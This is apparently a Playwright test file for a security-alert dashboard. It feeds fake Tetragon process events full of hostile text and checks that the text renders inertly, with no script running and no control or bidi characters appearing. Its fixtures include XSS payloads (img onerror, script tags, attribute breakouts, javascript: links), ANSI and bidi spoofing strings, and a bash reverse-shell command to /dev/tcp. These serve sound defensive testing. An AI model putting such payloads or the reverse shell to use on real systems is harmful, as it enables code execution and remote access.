"""Texts that an attacker chose, in every field that reaches the page: shown as text, in their place, running nothing."""

import itertools
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from playwright.async_api import Browser, Page, expect

from support import lines
from support.browser import PHONE, Witness, arrived, fits, keep, rows, visit
from support.processes import House
from support.waiting import until

pytestmark = [pytest.mark.timeout(180), pytest.mark.asyncio(loop_scope="module")]

_HTML = "<img src=x onerror=\"window.ran='img'\"><script>window.ran='script'</script></pre><h1>big</h1>"
_ANSI = "\x1b[31mred\x1b]0;title\x07"
_BIDI = "\u202egnp.exe\u2066\u200b"
_NUL = "a\x00b"
_ATTRIBUTE = '" onmouseover="window.ran=1" style="position:fixed;inset:0" x="'
_LINK = "javascript:window.ran='link'"
_ALL = f"{_HTML} {_ANSI} {_BIDI} {_NUL} {_ATTRIBUTE} {_LINK}"
_MIB = 1 << 20
_RAW = set("\x00\x07\x1b\u202e\u2066\u200b")


def _hostile(number: int, **more: Any) -> dict[str, Any]:
    """A process all of whose texts are hostile."""
    pod = lines.pod(
        namespace=f"ns{_HTML}"[:200],
        name=f"pod{_ALL}",
        workload=f"wl{_BIDI}{_HTML}",
        workload_kind=_HTML,
        pod_labels={_HTML: _ANSI, "a": _BIDI},
        container={"id": f"containerd://{_HTML}", "name": f"c{_ALL}", "image": {"id": _HTML, "name": _ALL}},
    )
    own = lines.process(number, f"/bin/{_ALL}", _ALL, cwd=_ALL, docker=_HTML, pod=pod, parent=4_000)
    return {**own, **more}


def _lines() -> list[bytes]:
    parent = _hostile(4_000, exec_id=lines.exec_id(4_000))
    path = {"file_arg": {"path": f"/etc/{_ALL}", "flags": _HTML, "permission": _ANSI}}
    sock = {"sock_arg": {"family": _HTML, "daddr": _ALL, "dport": 4_444, "protocol": _BIDI}}
    return [
        lines.line("process_exec", _hostile(4_001), parent, node=f"node{_HTML}"[:120]),
        lines.line("process_exec", _hostile(4_002, binary="/bin/bash", arguments=f"-i >& /dev/tcp/1.2.3.4/1 {_ALL}"), parent),
        lines.line(
            "process_kprobe", _hostile(4_003), parent, function_name=f"fn{_ALL}", policy_name=_ALL, message=_ALL,
            tags=[_HTML], args=[path, sock, {"string_arg": _ALL}, {"bytes_arg": "AAA="}], action=_HTML,
        ),
        lines.line("process_exit", _hostile(4_004), parent, signal=_HTML, status=1),
        lines.line("process_exec", lines.process(4_005, "/bin/long", "A" * _MIB, pod=lines.pod()), parent),
        lines.line("process_exec", lines.process(4_006, "/bin/pod", "p", pod=lines.pod(name="p" * 10_000)), parent),
        lines.line("process_exec", lines.process(4_007, "/" + "b" * 10_000, "x", pod=lines.pod(namespace="n" * 10_000))),
        lines.line("process_exec", lines.process(4_008, "/bin/zalgo", "Z" + "\u0301" * 3_000 + "\u4e00" * 500)),
        lines.line("process_exec", _hostile(4_009, exec_id=_HTML, parent_exec_id=_ALL), parent),
    ]  # fmt: skip


@pytest.fixture(scope="module")
def home(houses: Callable[..., House], tmp_path_factory: pytest.TempPathFactory) -> House:
    """A house that was told all of it."""
    export: Path = tmp_path_factory.mktemp("hostile") / "tetragon.log"
    lines.append(export, *_lines())
    own = houses("--file", str(export))
    own.start()
    return own


@pytest.fixture
async def ids(home: House) -> dict[str, str]:
    """Id of each alert by its binary, once all of them are there; correlations are none of ours."""
    found: list[dict[str, Any]] = []

    async def there() -> bool:
        async with (
            aiohttp.ClientSession() as http,
            http.get(f"{home.page}api/v1/alerts?event_type=-correlation") as answer,
        ):
            found[:] = (await answer.json())["rows"] if answer.status == 200 else []
        return len(found) >= len(_lines())

    await until(there, 60, "all alerts")
    return {row["id"]: row.get("process", "") for row in found}


async def _untouched(page: Page) -> None:
    """Nothing ran, nothing was made of the texts, and no control or bidi character stands in the document."""
    assert await page.evaluate("window.ran ?? null") is None
    assert await page.locator("#app img, #app script, #app h1 h1, #app [onmouseover], #app [onerror]").count() == 0
    assert await page.locator('a[href^="javascript:" i]').count() == 0
    said = await page.evaluate(
        """names => [document.title, document.body.innerText, ...[...document.querySelectorAll('*')].flatMap((own) =>
            names.flatMap((name) => own.getAttribute(name) ?? []))]""",
        ["title", "aria-label", "aria-valuetext", "placeholder"],
    )
    assert [text[:300] for text in said if set(text) & _RAW] == []


async def _rows_stand(page: Page, height: int) -> None:
    """Every row is as high as every other, in its place, and nothing of it hangs out."""
    boxes = await page.evaluate(
        """() => [...document.querySelectorAll('.rows .row')].map((own) => {
            const { top, height, right } = own.getBoundingClientRect();
            const cells = [...own.children].map((cell) => cell.getBoundingClientRect());
            return [top, height, right <= innerWidth + 1, Math.max(...cells.map((cell) => cell.bottom)) <= top + height + 1];
        })"""
    )
    assert len(boxes) >= 3
    assert {round(box[1]) for box in boxes} == {height}
    assert all(box[2] for box in boxes), "a row is wider than the window"
    assert all(box[3] for box in boxes), "a cell hangs out of its row"
    tops = [round(box[0]) for box in boxes]
    assert all(after - before >= height for before, after in itertools.pairwise(tops))


@pytest.mark.parametrize(
    "columns",
    ["severity,time,alert,process,event,where,node,technique", "alert,target,container,rule,node,where,event"],
)
async def test_in_the_list_it_is_text_in_its_place(home: House, page: Page, ids: dict[str, str], columns: str) -> None:
    await arrived(page, f"{home.page}runtime?fold=0&cols={columns}")
    await expect(rows(page)).to_have_count(len(ids) + await _correlations(page))
    await expect(page.locator(".rows")).to_contain_text("<img src=x onerror=")
    await expect(page.locator(".rows")).to_contain_text(r"\u202e")
    closed = page.locator(".facet button.head[aria-expanded=false]")
    while await closed.count() > 0:
        await closed.first.click()
    await expect(page.locator(".facet.out")).to_have_count(7)
    await _untouched(page)
    await _rows_stand(page, 28)
    await fits(page, "hostile list")
    await keep(page, f"hostile-list-{columns.partition(',')[0]}")


async def _correlations(page: Page) -> int:
    return await page.locator(".row", has=page.locator(".e", has_text=re.compile("^correlation"))).count()


async def test_opened_it_is_text_in_its_box(home: House, page: Page, ids: dict[str, str]) -> None:
    for id in ids:
        await page.goto(f"{home.page}runtime?fold=0&open={id}")
        detail = page.locator("[data-detail=ready]")
        await expect(detail).to_be_visible()
        await expect(detail.locator("pre").first).to_be_visible()
        await _untouched(page)
        await fits(page, f"hostile {id}")
        box, frame = await detail.bounding_box(), await page.locator(".rows").bounding_box()
        assert box is not None
        assert frame is not None
        assert box["x"] >= frame["x"] - 1
        assert box["x"] + box["width"] <= frame["x"] + frame["width"] + 1
        await page.locator(".exp button", has_text="Copy as").click()
        await _untouched(page)


async def test_on_its_own_page_and_on_a_phone_it_is_text(
    home: House, browser: Browser, witness: Witness, ids: dict[str, str]
) -> None:
    for viewport in (None, PHONE):
        async with visit(browser, witness, **({} if viewport is None else {"viewport": viewport})) as page:
            for number, id in enumerate(ids):
                await page.goto(f"{home.page}alerts/{id}")
                await expect(page.locator("main[data-detail=ready]")).to_be_visible()
                await expect(
                    page.get_by_role("tree").or_(page.get_by_text("This alert names no process")).first
                ).to_be_visible()
                await _untouched(page)
                await fits(page, f"hostile alert {id}")
                if number < 3:
                    await keep(page, f"hostile-alert-{number}-{'390' if viewport else '1440'}")
            if viewport:
                await arrived(page, f"{home.page}runtime?fold=0")
                await _rows_stand(page, 68)
                await rows(page).first.click()
                await expect(page.locator("dialog.sheet[data-detail=ready]")).to_be_visible()
                await _untouched(page)
                await fits(page, "hostile sheet")
                await keep(page, "hostile-sheet-390")


async def test_on_the_pipeline_it_is_text(home: House, page: Page, ids: dict[str, str]) -> None:
    await page.goto(f"{home.page}pipeline")
    nodes = page.get_by_role("table", name="Nodes, not reporting first")
    await expect(nodes).to_contain_text("<img src=x onerror=")
    await _untouched(page)
    await fits(page, "hostile pipeline")
    await keep(page, "hostile-pipeline")
    await page.set_viewport_size(PHONE)
    await fits(page, "hostile pipeline 390")
    await nodes.get_by_role("link", name=re.compile("^node<img")).first.click()
    await expect(page.locator(".chip")).to_contain_text("<img src=x")
    await expect(rows(page).first).to_be_visible()
    await _untouched(page)


async def test_in_the_address_and_the_box_it_is_text(home: House, page: Page, ids: dict[str, str]) -> None:
    await page.goto(home.page)
    for name in ("q", "namespace", "process", "range", "severity", "cols", "open", "tz", "no-such"):
        await page.evaluate(
            "([name, value]) => location.assign('/runtime?' + new URLSearchParams({ [name]: value }))", [name, _ALL]
        )
        await page.wait_for_url(re.compile(rf"[?&]{name}="))
        await expect(page.locator("#list-title")).to_be_visible()
        await _untouched(page)
        await fits(page, f"hostile {name}")
    await page.goto(f"{home.page}runtime")
    await page.locator("#search").fill(f'"{_HTML}')
    await expect(page.locator("#search")).to_be_focused()
    await _untouched(page)
